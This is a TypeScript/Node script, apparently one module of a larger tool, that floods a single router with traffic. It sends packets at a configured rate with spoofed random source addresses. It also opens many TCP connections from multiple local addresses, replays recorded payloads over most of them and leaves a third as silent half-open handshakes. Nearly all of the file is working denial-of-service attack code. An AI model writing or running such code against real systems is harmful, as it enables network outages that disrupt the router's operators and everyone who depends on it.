// A flood against one router, from a host of its own, until it is killed. Prints how many packets it sent, each second.
//
//   usage: flood-process.js '{"link":"eth0","at":"streams","perS":50000,"target":{...},"recorded":["hex"],"sources":0,"callers":["10.98.0.1"]}'
//
// `sources`: how many there seem to be; 0: each packet from another. `callers`: addresses of this host, from each of which streams are
// really opened, say what was recorded, and wait.
import { randomInt } from 'node:crypto';
import { connect } from 'node:net';
import { attackFrames, comeFrom, type Port, type Target } from './attack-frames.js';
import { FrameBatch } from './frame-batch.js';

export interface Flood {
  readonly link: string;
  readonly at: Port;
  readonly perS: number;
  readonly target: Target;
  /** Hexadecimal. */
  readonly recorded: readonly string[];
  readonly sources: number;
  readonly callers: readonly string[];
}

const TURN_MS = 4;
const CALLS_PER_S = 500;
/** 100.64.0.0/10: nobody's. */
const SOURCES_FROM = 0x64400000;
const SOURCES = 0x400000;

const flood = JSON.parse(process.argv[2]!) as Flood;
const recorded = flood.recorded.map((hex) => Buffer.from(hex, 'hex'));

function sendFrames(): void {
  const frames = attackFrames(flood.at, flood.target, recorded).map((frame) => Buffer.from(frame));
  const batch = new FrameBatch(flood.link, frames);
  const startedAt = performance.now();
  let [sent, next, said] = [0, 0, 0];
  const turn = (): void => {
    const seconds = (performance.now() - startedAt) / 1_000;
    for (let due = Math.floor(seconds * flood.perS) - sent; due > 0;) {
      const count = Math.min(due, frames.length - next);
      for (let i = next; i < next + count; i++)
        comeFrom(frames[i]!, SOURCES_FROM + randomInt(flood.sources || SOURCES));
      batch.send(next, count);
      sent += count;
      due -= count;
      next = (next + count) % frames.length;
    }
    if (Math.floor(seconds) > said) console.log(JSON.stringify({ seconds: (said = Math.floor(seconds)), sent }));
  };
  setInterval(turn, TURN_MS);
}

function call(): void {
  let calls = 0;
  setInterval(() => {
    const { ip, port } = flood.target;
    const socket = connect({
      host: ip,
      port,
      localAddress: flood.callers[calls++ % flood.callers.length]!,
      timeout: 8_000,
    });
    socket.on('error', () => undefined).on('timeout', () => socket.destroy());
    socket.resume();
    // A third are halves of handshakes: they say nothing.
    if (calls % 3 !== 0) socket.write(recorded[calls % recorded.length]!);
  }, 1_000 / CALLS_PER_S);
}

if (flood.perS > 0) sendFrames();
if (flood.callers.length > 0) call();
